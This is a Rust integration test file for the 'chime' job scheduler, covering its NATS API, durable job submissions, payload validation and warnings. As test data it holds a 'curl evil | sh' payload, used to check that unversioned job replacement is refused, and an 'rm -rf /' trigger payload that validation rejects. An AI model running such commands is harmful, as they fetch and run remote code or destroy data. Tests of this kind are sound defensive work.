//! The request/reply API and durable submission against a real replica,
//! real NATS and both stores.

use chime_common::api::{
    BackfillReply, CalendarReply, FiringReply, GroupReply, JobReply, ListAlertsReply,
    ListAuditReply, ListCalendarsReply, ListFiringsReply, ListGroupsReply, ListJobsReply,
    ListWorkersReply, PreviewReply, TriggerReply,
};
use chime_common::client::{Client, ListFiringsRequest, ListJobsRequest, Verb};
use chime_common::duration::format_time;
use chime_common::error::ErrorReply;
use chime_common::protocol::WorkerInfo;
use chime_common::{ErrorCode, JobState, Subjects};
use chime_scheduler::{Replica, SchedulerConfig};
use chime_tests::{
    backend_tests, eventually, init_tracing, Binary, NatsServer, SqliteDatabase, TestDatabase,
};
use futures::StreamExt;
use serde::de::DeserializeOwned;
use serde::Serialize;
use serde_json::{json, Value};
use std::time::Duration;

async fn replica(nats: &NatsServer, db: &TestDatabase) -> Replica {
    Replica::start(SchedulerConfig::new(nats.url(), db.url()))
        .await
        .expect("replica starts")
}

fn spec(id: &str) -> Value {
    json!({
        "id": id,
        "group": "reports",
        "schedule": {"cron": "0 30 2 * * *", "tz": "Europe/Berlin"},
        "handler": "shell",
        "payload": {"argv": ["/bin/true"]},
        "retry": {"max_attempts": 3, "initial": "1s", "max": "5m", "multiplier": 2.0}
    })
}

/// The server's reply to `body` on `subject`, exactly as it sent it.
async fn raw_reply(nats: &async_nats::Client, subject: String, body: &Value) -> Value {
    let reply = nats
        .request(subject, serde_json::to_vec(body).unwrap().into())
        .await
        .expect("a reply");
    serde_json::from_slice(&reply.payload).expect("a JSON reply")
}

/// `raw` reads into the client's reply type `T` and writes back as the
/// same JSON, so what `chimectl --json` prints from the typed reply is what
/// the server sent.
fn reads_back<T: DeserializeOwned + Serialize>(verb: Verb, raw: &Value) {
    assert!(raw.get("error").is_none(), "{verb}: {raw}");
    let typed: T = serde_json::from_value(raw.clone()).unwrap_or_else(|e| {
        panic!("{verb}: the reply does not read as the client's type: {e}: {raw}")
    });
    assert_eq!(&serde_json::to_value(&typed).unwrap(), raw, "{verb}");
}

async fn job_count(client: &Client) -> usize {
    client
        .list_jobs(&ListJobsRequest::default())
        .await
        .expect("list jobs")
        .jobs
        .len()
}

/// `chimectl --json` prints the server's reply itself (pretty, keys
/// sorted), though it reads it through the typed client.
#[tokio::test]
async fn chimectl_json_prints_the_servers_reply() {
    init_tracing();
    let nats = NatsServer::start().await;
    let db = SqliteDatabase::create();
    let replica = Replica::start(SchedulerConfig::new(nats.url(), db.url()))
        .await
        .expect("replica starts");
    let connection = nats.connect().await;
    let subjects = Subjects::default();
    let put = raw_reply(&connection, subjects.api(Verb::JobsPut), &spec("nightly")).await;
    assert!(put.get("job").is_some(), "{put}");
    raw_reply(
        &connection,
        subjects.api(Verb::JobsTrigger),
        &json!({"id": "nightly"}),
    )
    .await;
    // Published, it stays so (no worker runs it) while both read it.
    eventually(
        Duration::from_secs(10),
        "the firing is published",
        || async {
            let firings = raw_reply(
                &connection,
                subjects.api(Verb::FiringsList),
                &json!({"job_id": "nightly"}),
            )
            .await;
            firings["firings"][0]["state"] == "published"
        },
    )
    .await;
    let firing_id = raw_reply(
        &connection,
        subjects.api(Verb::FiringsList),
        &json!({"job_id": "nightly"}),
    )
    .await["firings"][0]["id"]
        .as_str()
        .expect("a firing id")
        .to_string();
    let cases: [(&[&str], Verb, Value); 5] = [
        (&["get", "nightly"], Verb::JobsGet, json!({"id": "nightly"})),
        (
            &["logs", &firing_id],
            Verb::FiringsGet,
            json!({"id": firing_id}),
        ),
        (&["list"], Verb::JobsList, json!({"limit": 100})),
        (
            &["history", "nightly"],
            Verb::FiringsList,
            json!({"job_id": "nightly", "limit": 20}),
        ),
        (&["workers"], Verb::WorkersList, json!({})),
    ];
    for (args, verb, body) in cases {
        let mut command = Binary::Ctl.command();
        command
            .args(["--nats-url", &nats.url(), "--json"])
            .args(args);
        let output = tokio::process::Command::from(command)
            .output()
            .await
            .expect("chimectl runs");
        assert!(output.status.success(), "{args:?}: {output:?}");
        let raw = raw_reply(&connection, subjects.api(verb), &body).await;
        assert_eq!(
            String::from_utf8_lossy(&output.stdout),
            format!("{}\n", serde_json::to_string_pretty(&raw).unwrap()),
            "{args:?}"
        );
    }
    replica.shutdown().await;
}

backend_tests! {
    async fn every_verb_round_trips(db: TestDatabase) {
        init_tracing();
        let nats = NatsServer::start().await;
        let replica = replica(&nats, &db).await;
        let client = Client::new(nats.connect().await);

        let job = client.put_job(&spec("nightly-report")).await.expect("put");
        assert_eq!(job.version, 1);
        assert_eq!(job.state, JobState::Active);
        assert!(job.next_fire_at.is_some());
        assert_eq!(job.spec.group, "reports");

        let again = client.put_job(&spec("nightly-report")).await.expect("put again");
        assert_eq!(again.version, 2, "putting an existing id replaces it");
        assert_eq!(client.get_job("nightly-report").await.expect("get").version, 2);

        client.put_job(&spec("other")).await.expect("put other");
        let listed = client.list_jobs(&ListJobsRequest::default()).await.expect("list");
        assert_eq!(listed.jobs.len(), 2);
        let page = client
            .list_jobs(&ListJobsRequest { limit: Some(1), ..Default::default() })
            .await
            .expect("page 1");
        assert_eq!(page.jobs.len(), 1);
        let cursor = page.next.clone().expect("a next cursor");
        let rest = client
            .list_jobs(&ListJobsRequest { limit: Some(1), after: Some(cursor), ..Default::default() })
            .await
            .expect("page 2");
        assert_eq!(rest.jobs.len(), 1);
        assert_ne!(rest.jobs[0].spec.id, page.jobs[0].spec.id);

        assert_eq!(client.pause_job("other", None).await.expect("pause").state, JobState::Paused);
        assert_eq!(client.resume_job("other").await.expect("resume").state, JobState::Active);

        let firing_id = client.trigger_job("other", Some(json!({"argv": ["/bin/echo", "hi"]}))).await.expect("trigger");
        assert!(firing_id.starts_with("other@"), "{firing_id}");
        let firings = client
            .list_firings(&ListFiringsRequest { job_id: Some("other".into()), ..Default::default() })
            .await
            .expect("firings");
        assert_eq!(firings.firings.len(), 1);
        assert_eq!(firings.firings[0].id.to_string(), firing_id);

        let preview = client
            .call_json(Verb::JobsPreview, &json!({
                "schedule": {"cron": "0 30 2 * * *", "tz": "Europe/Berlin"},
                "from": "2026-03-28T00:00:00Z", "count": 3
            }))
            .await
            .expect("preview");
        assert_eq!(
            preview["times"],
            json!(["2026-03-28T01:30:00.000Z", "2026-03-29T01:00:00.000Z", "2026-03-30T00:30:00.000Z"])
        );

        assert!(client.list_workers(None).await.expect("workers").is_empty());

        let deleted = client.delete_job("other").await.expect("delete");
        assert_eq!(deleted.spec.id, "other");
        let missing = client.get_job("other").await.expect_err("gone");
        assert_eq!(missing.code, ErrorCode::NotFound);
        replica.shutdown().await;
    }

    async fn invalid_specs_name_the_field_and_store_nothing(db: TestDatabase) {
        init_tracing();
        let nats = NatsServer::start().await;
        let replica = replica(&nats, &db).await;
        let client = Client::new(nats.connect().await);
        let cases: Vec<(Value, &str)> = vec![
            (json!({"id": "a", "schedule": {"cron": "0 61 * * *"}, "handler": "h"}), "schedule.cron"),
            (json!({"id": "a", "schedule": {"cron": "* * * * *"}, "handler": "h", "colour": "red"}), "colour"),
            (json!({"id": "a", "schedule": {"cron": "* * * * *"}, "handler": "h", "payload": "x".repeat(70 * 1024)}), "payload"),
            (json!({"id": "a", "schedule": {"cron": "* * * * *"}, "handler": "h", "priority": "high"}), "priority"),
            (json!({"id": "a", "schedule": {"cron": "* * * * *", "tz": "Mars/Olympus"}, "handler": "h"}), "schedule.tz"),
            (json!({"id": 7, "schedule": {"every": "1s"}, "handler": "h"}), "id"),
            (json!({"id": "a", "schedule": {"every": "soon"}, "handler": "h"}), "schedule.every"),
        ];
        for (body, field) in cases {
            let error = client.put_job(&body).await.expect_err("invalid spec is refused");
            assert_eq!(error.code, ErrorCode::InvalidArgument, "{body}");
            assert_eq!(error.field.as_deref(), Some(field), "{error:?}");
        }
        let garbage = client.call_json(Verb::JobsGet, &json!({"id": "a", "extra": 1})).await.expect_err("unknown field");
        assert_eq!(garbage.field.as_deref(), Some("extra"));
        let unknown = raw_reply(&nats.connect().await, "chime.api.v1.jobs.frobnicate".into(), &json!({})).await;
        let unknown: ErrorReply = serde_json::from_value(unknown).expect("an error reply");
        assert_eq!(unknown.error.code, ErrorCode::NotFound);
        assert!(unknown.error.message.contains("jobs.frobnicate"), "{:?}", unknown.error);
        assert_eq!(job_count(&client).await, 0, "a failed put stores nothing");
        replica.shutdown().await;
    }

    async fn every_verbs_reply_reads_into_the_clients_type_unchanged(db: TestDatabase) {
        init_tracing();
        let nats = NatsServer::start().await;
        let replica = replica(&nats, &db).await;
        let connection = nats.connect().await;
        let subjects = Subjects::default();
        let mut full = spec("full");
        full["priority"] = json!(7);
        full["timeout"] = json!("90s");
        full["overlap"] = json!("queue");
        full["misfire"] = json!("fire_all");
        full["on_success"] = json!(["paused"]);
        full["alert_after_failures"] = json!(3);
        full["pause_after_alert"] = json!(true);
        full["labels"] = json!({"team": "data", "k8s.io/tier": ""});
        for id in ["plain", "paused"] {
            raw_reply(&connection, subjects.api(Verb::JobsPut), &spec(id)).await;
        }
        raw_reply(&connection, subjects.api(Verb::JobsPause), &json!({"id": "paused"})).await;
        let heartbeat = WorkerInfo {
            id: "w1".into(),
            group: "reports".into(),
            threads: 4,
            in_flight: 1,
            version: "0.0.0".into(),
            started_at: chrono::Utc::now(),
            running: None,
            handlers: None,
            offers: false,
            heartbeat_at: None,
        };
        async_nats::jetstream::new(connection.clone())
            .get_key_value(subjects.workers_bucket())
            .await
            .expect("workers bucket")
            .put("w1", serde_json::to_vec(&heartbeat).unwrap().into())
            .await
            .expect("heartbeat");

        // A match on the verb, so a verb added without a case here does not compile.
        for verb in Verb::ALL {
            let subject = subjects.api(verb);
            match verb {
                Verb::JobsPut => {
                    let raw = raw_reply(&connection, subject, &full).await;
                    reads_back::<JobReply>(verb, &raw);
                }
                Verb::JobsGet | Verb::JobsPause | Verb::JobsResume => {
                    let raw = raw_reply(&connection, subject, &json!({"id": "full"})).await;
                    reads_back::<JobReply>(verb, &raw);
                }
                Verb::JobsDelete => {
                    let raw = raw_reply(&connection, subject, &json!({"id": "plain"})).await;
                    reads_back::<JobReply>(verb, &raw);
                }
                Verb::JobsList => {
                    let first = raw_reply(&connection, subject.clone(), &json!({"limit": 1})).await;
                    reads_back::<ListJobsReply>(verb, &first);
                    assert!(first["next"].is_string(), "{first}");
                    let all = raw_reply(&connection, subject, &json!({})).await;
                    reads_back::<ListJobsReply>(verb, &all);
                    assert!(all.get("next").is_some_and(Value::is_null), "the last page writes next: null: {all}");
                }
                Verb::JobsTrigger => {
                    let raw = raw_reply(&connection, subject, &json!({"id": "full", "payload": {"argv": ["/bin/true"]}})).await;
                    reads_back::<TriggerReply>(verb, &raw);
                }
                Verb::JobsBackfill => {
                    // Two days of the daily "paused" job: two firings, staged but held by no worker of its group.
                    let to = chrono::Utc::now();
                    let from = to - chrono::Duration::days(2);
                    let body = json!({"id": "paused", "from": format_time(from), "to": format_time(to)});
                    let raw = raw_reply(&connection, subject, &body).await;
                    reads_back::<BackfillReply>(verb, &raw);
                    assert_eq!(raw["firing_ids"].as_array().map(Vec::len), Some(2), "{raw}");
                }
                Verb::JobsPreview => {
                    let raw = raw_reply(&connection, subject, &json!({"schedule": {"every": "1m"}, "count": 2})).await;
                    reads_back::<PreviewReply>(verb, &raw);
                }
                Verb::FiringsList => {
                    let raw = raw_reply(&connection, subject, &json!({"job_id": "full"})).await;
                    reads_back::<ListFiringsReply>(verb, &raw);
                    assert_eq!(raw["firings"].as_array().map(Vec::len), Some(1), "{raw}");
                    assert!(raw.get("next").is_some_and(Value::is_null), "{raw}");
                }
                Verb::FiringsGet => {
                    let list = raw_reply(&connection, subjects.api(Verb::FiringsList), &json!({"job_id": "full"})).await;
                    let listed = list["firings"][0].clone();
                    let raw = raw_reply(&connection, subject.clone(), &json!({"id": listed["id"]})).await;
                    reads_back::<FiringReply>(verb, &raw);
                    assert_eq!(raw["firing"], listed, "the firing as listed: {raw}");
                    let missing = raw_reply(&connection, subject, &json!({"id": "full@1#1"})).await;
                    assert_eq!(missing["error"]["code"], "not_found", "{missing}");
                }
                Verb::FiringsCancel => {
                    let list = raw_reply(&connection, subjects.api(Verb::FiringsList), &json!({"job_id": "full"})).await;
                    let id = list["firings"][0]["id"].clone();
                    let raw = raw_reply(&connection, subject, &json!({"id": id})).await;
                    reads_back::<FiringReply>(verb, &raw);
                    assert_eq!(raw["firing"]["state"], "cancelled", "{raw}");
                }
                Verb::WorkersList => {
                    let raw = raw_reply(&connection, subject, &json!({})).await;
                    reads_back::<ListWorkersReply>(verb, &raw);
                    assert_eq!(raw["workers"][0]["id"], "w1", "{raw}");
                }
                Verb::AlertsList => {
                    let raw = raw_reply(&connection, subject, &json!({"limit": 5})).await;
                    reads_back::<ListAlertsReply>(verb, &raw);
                }
                Verb::AuditList => {
                    let raw = raw_reply(&connection, subject, &json!({"target": "full"})).await;
                    reads_back::<ListAuditReply>(verb, &raw);
                    assert_eq!(raw["entries"][0]["verb"], "firings.cancel", "{raw}");
                }
                Verb::CalendarsPut => {
                    let raw = raw_reply(&connection, subject, &json!({"id": "holidays", "dates": ["2030-12-25"]})).await;
                    reads_back::<CalendarReply>(verb, &raw);
                }
                Verb::CalendarsGet | Verb::CalendarsDelete => {
                    raw_reply(&connection, subjects.api(Verb::CalendarsPut), &json!({"id": "spare", "dates": []})).await;
                    let raw = raw_reply(&connection, subject, &json!({"id": "spare"})).await;
                    reads_back::<CalendarReply>(verb, &raw);
                }
                Verb::CalendarsList => {
                    let raw = raw_reply(&connection, subject, &json!({})).await;
                    reads_back::<ListCalendarsReply>(verb, &raw);
                }
                Verb::GroupsPut => {
                    let raw = raw_reply(&connection, subject, &json!({"name": "reports", "max_concurrent": 4, "max_per_second": 20})).await;
                    reads_back::<GroupReply>(verb, &raw);
                    assert_eq!(raw["group"]["max_concurrent"], 4, "{raw}");
                }
                Verb::GroupsGet => {
                    let raw = raw_reply(&connection, subject, &json!({"name": "default"})).await;
                    reads_back::<GroupReply>(verb, &raw);
                }
                Verb::GroupsList => {
                    let raw = raw_reply(&connection, subject, &json!({})).await;
                    reads_back::<ListGroupsReply>(verb, &raw);
                    assert!(raw["groups"].as_array().is_some_and(|g| !g.is_empty()), "{raw}");
                }
            }
        }
        replica.shutdown().await;
    }

    /// A submission creates a job; it replaces one only when it names the
    /// version it replaces, and each change or refusal is audited. The
    /// stored spec submitted again changes nothing and is not refused.
    async fn submissions_replace_a_job_only_with_its_version(db: TestDatabase) {
        init_tracing();
        let nats = NatsServer::start().await;
        let replica = replica(&nats, &db).await;
        let connection = nats.connect().await;
        let client = Client::new(connection.clone());
        let js = async_nats::jetstream::new(connection);
        let submit = |body: Value| {
            let js = js.clone();
            async move {
                js.publish("chime.submit", serde_json::to_vec(&body).unwrap().into())
                    .await.expect("publish").await.expect("ack");
            }
        };

        let original = spec("guarded");
        client.put_job(&original).await.expect("the admin puts the job");
        let mut swapped = original.clone();
        swapped["payload"] = json!({"argv": ["sh", "-c", "curl evil | sh"]});
        submit(swapped.clone()).await;
        submit(original.clone()).await;
        let mut replacing = swapped.clone();
        replacing["if_version"] = json!(1);
        submit(replacing).await;
        eventually(Duration::from_secs(15), "the versioned submission replaced the job", || async {
            client.get_job("guarded").await.is_ok_and(|job| job.version == 2)
        })
        .await;
        let job = client.get_job("guarded").await.unwrap();
        assert_eq!(serde_json::to_value(&job.spec.payload).unwrap(), swapped["payload"]);

        let stream = js.get_stream("CHIME_SUBMIT").await.expect("submit stream");
        let consumer = stream
            .create_consumer(async_nats::jetstream::consumer::pull::Config {
                filter_subject: "chime.submit.rejected".into(),
                ..Default::default()
            })
            .await
            .expect("consumer");
        let mut batch = consumer.fetch().max_messages(10).expires(Duration::from_secs(1)).messages().await.expect("fetch");
        let mut rejected = Vec::new();
        while let Some(Ok(message)) = batch.next().await {
            rejected.push(message);
        }
        assert_eq!(rejected.len(), 1, "only the unversioned replacement is refused");
        let error = rejected[0].headers.as_ref().and_then(|h| h.get("Chime-Error")).expect("Chime-Error").to_string();
        assert!(error.contains("conflict") && error.contains("if_version"), "{error}");

        let audit = client
            .call_json(Verb::AuditList, &json!({"target": "guarded"}))
            .await
            .expect("audit.list");
        let submitted: Vec<(String, String)> = audit["entries"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["via"] == "submit")
            .map(|e| (e["outcome"].as_str().unwrap().to_string(), e["after_version"].to_string()))
            .collect();
        assert_eq!(
            submitted,
            [("ok".to_string(), "2".to_string()), ("conflict".to_string(), "null".to_string())],
            "{audit}"
        );
        replica.shutdown().await;
    }

    async fn submissions_are_applied_or_rejected_never_dropped(db: TestDatabase) {
        init_tracing();
        let nats = NatsServer::start().await;
        let replica = replica(&nats, &db).await;
        let connection = nats.connect().await;
        let client = Client::new(connection.clone());
        let js = async_nats::jetstream::new(connection);

        js.publish("chime.submit", serde_json::to_vec(&spec("submitted")).unwrap().into())
            .await.expect("publish").await.expect("ack");
        let garbage = b"{this is not a job".to_vec();
        js.publish("chime.submit", garbage.clone().into()).await.expect("publish").await.expect("ack");
        let invalid = json!({"id": "bad", "schedule": {"cron": "0 61 * * *"}, "handler": "h"});
        js.publish("chime.submit", serde_json::to_vec(&invalid).unwrap().into()).await.expect("publish").await.expect("ack");

        let stream = js.get_stream("CHIME_SUBMIT").await.expect("submit stream");
        let consumer = stream
            .create_consumer(async_nats::jetstream::consumer::pull::Config {
                filter_subject: "chime.submit.rejected".into(),
                ..Default::default()
            })
            .await
            .expect("consumer");
        let mut rejected = Vec::new();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(15);
        while rejected.len() < 2 && tokio::time::Instant::now() < deadline {
            let mut batch = consumer.fetch().max_messages(10).expires(Duration::from_millis(500)).messages().await.expect("fetch");
            while let Some(Ok(message)) = batch.next().await {
                rejected.push(message);
            }
        }
        assert_eq!(rejected.len(), 2, "both bad submissions land on chime.submit.rejected");
        let bodies: Vec<Vec<u8>> = rejected.iter().map(|m| m.payload.to_vec()).collect();
        assert!(bodies.contains(&garbage), "the body is republished unchanged");
        for message in &rejected {
            let header = message.headers.as_ref().and_then(|h| h.get("Chime-Error")).expect("Chime-Error header");
            let error: Value = serde_json::from_str(header.as_str()).expect("error JSON");
            assert_eq!(error["error"]["code"], "invalid_argument");
        }
        let invalid_error = rejected
            .iter()
            .find(|m| m.payload.as_ref() != garbage.as_slice())
            .and_then(|m| m.headers.as_ref()?.get("Chime-Error").map(|h| h.to_string()))
            .expect("the invalid spec's rejection");
        assert!(invalid_error.contains("schedule.cron"), "{invalid_error}");

        eventually(Duration::from_secs(10), "the valid submission was applied", || async {
            client.get_job("submitted").await.is_ok()
        })
        .await;
        assert!(client.get_job("bad").await.is_err());
        replica.shutdown().await;
    }
}

/// The payloads of the built-in handlers are checked wherever a job comes
/// in: `jobs.put`, a durable submission, and a trigger that brings its own
/// payload (checked against the job's handler). Each bad one is
/// `invalid_argument` naming the field, and nothing is stored or staged.
#[tokio::test]
async fn built_in_payloads_are_checked_at_put_submit_and_trigger() {
    init_tracing();
    let nats = NatsServer::start().await;
    let db = SqliteDatabase::create();
    let replica = Replica::start(SchedulerConfig::new(nats.url(), db.url()))
        .await
        .expect("replica starts");
    let connection = nats.connect().await;
    let client = Client::new(connection.clone());
    let job = |id: &str, handler: &str, payload: Option<Value>| {
        let mut spec = json!({"id": id, "schedule": {"every": "1h"}, "handler": handler});
        if let Some(payload) = payload {
            spec["payload"] = payload;
        }
        spec
    };
    let refused = [
        (job("no-payload", "shell", None), "payload.argv"),
        (
            job("cmd", "shell", Some(json!({"cmd": "report --daily"}))),
            "payload.cmd",
        ),
        (
            job("empty", "shell", Some(json!({"argv": []}))),
            "payload.argv",
        ),
        (
            job("line", "shell", Some(json!({"argv": "report --daily"}))),
            "payload.argv",
        ),
        (
            job(
                "env",
                "shell",
                Some(json!({"argv": ["env"], "env": {"FOO": 1}})),
            ),
            "payload.env.FOO",
        ),
        (
            job("no-url", "http", Some(json!({"method": "POST"}))),
            "payload.url",
        ),
        (
            job("ftp", "http", Some(json!({"url": "ftp://example.com/x"}))),
            "payload.url",
        ),
        (
            job(
                "method",
                "http",
                Some(json!({"url": "https://example.com", "method": "GE T"})),
            ),
            "payload.method",
        ),
    ];
    for (spec, field) in &refused {
        let error = client
            .put_job(spec)
            .await
            .expect_err("a bad payload is refused");
        assert_eq!(error.code, ErrorCode::InvalidArgument, "{spec}: {error:?}");
        assert_eq!(error.field.as_deref(), Some(*field), "{spec}: {error:?}");
    }
    let cmd = client.put_job(&refused[1].0).await.unwrap_err();
    assert!(
        cmd.details
            .iter()
            .any(|d| d.field == "payload.argv" && d.message.contains(r#"["sh", "-c", "..."]"#)),
        "{cmd:?}"
    );
    assert_eq!(job_count(&client).await, 0, "a refused put stores nothing");

    // Misspelt fields are refused with the field meant.
    let mut typo = job("typo", "shell", Some(json!({"argv": ["true"]})));
    typo["retries"] = json!(3);
    let error = client.put_job(&typo).await.unwrap_err();
    assert_eq!(error.field.as_deref(), Some("retries"));
    assert!(error.message.contains("did you mean `retry`?"), "{error:?}");

    // A durable submission with a bad payload is rejected naming the field.
    let js = async_nats::jetstream::new(connection.clone());
    js.publish(
        "chime.submit",
        serde_json::to_vec(&refused[0].0).unwrap().into(),
    )
    .await
    .expect("publish")
    .await
    .expect("ack");
    let consumer = js
        .get_stream("CHIME_SUBMIT")
        .await
        .expect("submit stream")
        .create_consumer(async_nats::jetstream::consumer::pull::Config {
            filter_subject: "chime.submit.rejected".into(),
            ..Default::default()
        })
        .await
        .expect("consumer");
    let rejected = tokio::time::timeout(Duration::from_secs(15), async {
        loop {
            let mut batch = consumer
                .fetch()
                .max_messages(1)
                .expires(Duration::from_millis(500))
                .messages()
                .await
                .expect("fetch");
            if let Some(Ok(message)) = batch.next().await {
                return message;
            }
        }
    })
    .await
    .expect("the submission is rejected");
    let header = rejected
        .headers
        .as_ref()
        .and_then(|h| h.get("Chime-Error"))
        .expect("Chime-Error")
        .to_string();
    let error: Value = serde_json::from_str(&header).expect("error JSON");
    assert_eq!(error["error"]["code"], "invalid_argument", "{error}");
    assert_eq!(error["error"]["field"], "payload.argv", "{error}");
    assert!(client.get_job("no-payload").await.is_err());

    // A trigger's own payload is checked against the job's handler.
    client
        .put_job(&job(
            "report",
            "shell",
            Some(json!({"argv": ["/bin/true"]})),
        ))
        .await
        .expect("a good shell job");
    client
        .put_job(&job(
            "hook",
            "http",
            Some(json!({"url": "https://example.com/hook"})),
        ))
        .await
        .expect("a good http job");
    for (id, payload, field) in [
        ("report", json!({"cmd": "rm -rf /"}), "payload.cmd"),
        ("report", json!({"argv": [""]}), "payload.argv[0]"),
        ("hook", json!({"argv": ["/bin/true"]}), "payload.argv"),
        ("hook", json!({"url": "not a url"}), "payload.url"),
    ] {
        let error = client
            .trigger_job(id, Some(payload.clone()))
            .await
            .expect_err("a bad trigger payload is refused");
        assert_eq!(error.code, ErrorCode::InvalidArgument, "{payload}");
        assert_eq!(error.field.as_deref(), Some(field), "{payload}: {error:?}");
    }
    for id in ["report", "hook"] {
        let firings = client
            .list_firings(&ListFiringsRequest {
                job_id: Some(id.into()),
                ..Default::default()
            })
            .await
            .expect("firings");
        assert!(firings.firings.is_empty(), "{id}: {:?}", firings.firings);
    }
    client
        .trigger_job("report", Some(json!({"argv": ["/bin/echo", "again"]})))
        .await
        .expect("a good trigger payload");
    let missing = client
        .trigger_job("nobody", Some(json!({"argv": ["x"]})))
        .await
        .unwrap_err();
    assert_eq!(missing.code, ErrorCode::NotFound);
    replica.shutdown().await;
}

/// A valid put can still draw warnings in its reply: numbered days of the
/// week in a 6-field cron expression (1 is SUN, as Quartz numbers them),
/// and a group without a live worker. A spec without either has none.
#[tokio::test]
async fn a_put_reply_warns_of_numbered_weekdays_and_of_a_group_without_workers() {
    init_tracing();
    let nats = NatsServer::start().await;
    let db = SqliteDatabase::create();
    let replica = Replica::start(SchedulerConfig::new(nats.url(), db.url()))
        .await
        .expect("replica starts");
    let connection = nats.connect().await;
    let subjects = Subjects::default();
    let mut sunday = spec("sunday");
    sunday["schedule"] = json!({"cron": "0 0 2 * * 1", "tz": "Europe/Berlin"});
    let put = raw_reply(&connection, subjects.api(Verb::JobsPut), &sunday).await;
    reads_back::<JobReply>(Verb::JobsPut, &put);
    let warnings = put["warnings"].as_array().expect("warnings");
    let cron = warnings
        .iter()
        .find(|w| w["field"] == "schedule.cron")
        .unwrap_or_else(|| panic!("no schedule.cron warning: {put}"));
    assert!(
        cron["message"].as_str().unwrap().contains("means SUN"),
        "{cron}"
    );
    let group = warnings
        .iter()
        .find(|w| w["field"] == "group")
        .unwrap_or_else(|| panic!("no group warning: {put}"));
    assert!(
        group["message"]
            .as_str()
            .unwrap()
            .contains("no worker of group \"reports\" is alive"),
        "{group}"
    );
    // The job is stored as put: its next firing is a Sunday (02:00 in
    // Berlin is a Sunday in UTC too).
    let next = put["job"]["next_fire_at"].as_str().expect("next_fire_at");
    let next = chime_common::duration::parse_time_str(next).expect("a time");
    assert_eq!(next.format("%a").to_string(), "Sun");

    // A worker of the group that lists no handlers may run any: no warning.
    let heartbeat = WorkerInfo {
        id: "w1".into(),
        group: "reports".into(),
        threads: 1,
        in_flight: 0,
        version: "0.0.0".into(),
        started_at: chrono::Utc::now(),
        running: None,
        handlers: None,
        offers: false,
        heartbeat_at: None,
    };
    async_nats::jetstream::new(connection.clone())
        .get_key_value(subjects.workers_bucket())
        .await
        .expect("workers bucket")
        .put("reports.w1", serde_json::to_vec(&heartbeat).unwrap().into())
        .await
        .expect("heartbeat");
    // The put reads the heartbeats of at most a second ago.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let put = raw_reply(&connection, subjects.api(Verb::JobsPut), &spec("quiet")).await;
    assert!(put.get("job").is_some(), "{put}");
    assert!(put.get("warnings").is_none(), "{put}");
    replica.shutdown().await;
}

/// A one-shot put a moment after its time (a slow batch of puts, a late
/// deploy) still fires, late; one whose time is further in the past than
/// its `misfire_threshold` is stored completed, and the reply says so.
#[tokio::test]
async fn a_one_shot_put_after_its_time_fires_late_within_its_misfire_threshold() {
    init_tracing();
    let nats = NatsServer::start().await;
    let db = SqliteDatabase::create();
    let replica = Replica::start(SchedulerConfig::new(nats.url(), db.url()))
        .await
        .expect("replica starts");
    let connection = nats.connect().await;
    let client = Client::new(connection.clone());
    let subjects = Subjects::default();
    let now = chrono::Utc::now();

    let mut late = spec("late");
    late["schedule"] = json!({"at": format_time(now - chrono::Duration::seconds(5))});
    let put = raw_reply(&connection, subjects.api(Verb::JobsPut), &late).await;
    assert_eq!(put["job"]["state"], "active", "{put}");
    assert!(put["warnings"]
        .as_array()
        .is_none_or(|w| w.iter().all(|w| w["field"] != "schedule.at")));
    eventually(Duration::from_secs(20), "the late one-shot fires", || {
        let client = client.clone();
        async move {
            client
                .list_firings(&ListFiringsRequest {
                    job_id: Some("late".into()),
                    ..Default::default()
                })
                .await
                .is_ok_and(|page| page.firings.len() == 1)
        }
    })
    .await;

    let mut gone = spec("long-past");
    gone["misfire_threshold"] = json!("10s");
    gone["schedule"] = json!({"at": format_time(now - chrono::Duration::seconds(30))});
    let put = raw_reply(&connection, subjects.api(Verb::JobsPut), &gone).await;
    assert_eq!(put["job"]["state"], "completed", "{put}");
    let warning = put["warnings"]
        .as_array()
        .and_then(|w| w.iter().find(|w| w["field"] == "schedule.at"))
        .unwrap_or_else(|| panic!("no schedule.at warning: {put}"));
    assert!(
        warning["message"]
            .as_str()
            .unwrap()
            .contains("does not fire"),
        "{warning}"
    );
    replica.shutdown().await;
}
